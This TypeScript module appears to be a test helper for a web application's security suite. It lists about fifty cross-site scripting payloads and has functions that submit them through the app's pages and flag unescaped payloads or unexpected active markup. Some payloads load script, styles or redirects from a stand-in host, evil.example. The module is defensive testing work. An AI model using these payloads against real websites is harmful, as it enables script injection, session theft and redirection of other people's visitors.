import { spread } from '../deep.ts'
import type { Page } from '../pages/page.ts'

/** Texts by a visitor who wants a script to run on a page. */
export const payloads = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  '<!--<script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '"><img src=x onerror=alert(1)>',
  '</textarea><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '<form action=//evil.example><button>Send</button></form>',
  '<a href=javascript:alert(1)>x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '` onmouseover=alert(1) x=`',
  'javascript:alert(1)//',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\"}]);alert(1)//',
  "{{constructor.constructor('alert(1)')()}}<%= alert(1) %>",
]

/**
 * The payloads in few texts of at most so many characters, as every single one is looked for in a page. Each place
 * meets a quarter of the texts, those of its turn, and all of them in `npm run test:deep`.
 */
export function payloadsWithin(most: number, turn: number): string[] {
  const texts: string[] = []
  for (const payload of payloads) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + 1 + payload.length <= most) texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload)
  }
  return spread(texts, turn, 4)
}

const active = 'script, iframe, frame, img, object, embed, base, link, meta, style, form, input, video, source, math'

/** The active markup that the same page without hostile answers lacks. */
export function unexpectedMarkup(page: Page, harmless: Page): string[] {
  const usual = actors(harmless)
  const unexpected: string[] = []
  for (const actor of actors(page)) {
    const place = usual.indexOf(actor)
    if (place < 0) unexpected.push(actor)
    else usual.splice(place, 1)
  }
  return [...unexpected, ...unescapedIn(page)]
}

export function unescapedIn({ html }: Page): string[] {
  return payloads.filter((payload) => payload.includes('<') && html.includes(payload))
}

/** The name of a form's field that people do not meet, which differs from page to page. */
const trap = /^q\d{13}$/

/** Each element that loads, sends or runs something, without what differs between two answers. */
function actors(page: Page): string[] {
  const differing = ['nonce', 'value', 'content', 'aria-invalid', 'aria-describedby', 'aria-label']
  return [...page.document.querySelectorAll('*')].flatMap((element) => {
    const attributes = [...element.attributes].filter(({ name }) => !differing.includes(name))
    const runs = attributes.some(({ name, value }) => /^on/i.test(name) || /^\s*javascript:/i.test(value))
    if (!runs && !element.matches(active)) return []
    const told = attributes.map(({ name, value }) => `${name}="${trap.test(value) ? 'trap' : value}"`)
    return [`<${element.localName} ${told.join(' ')}>`]
  })
}
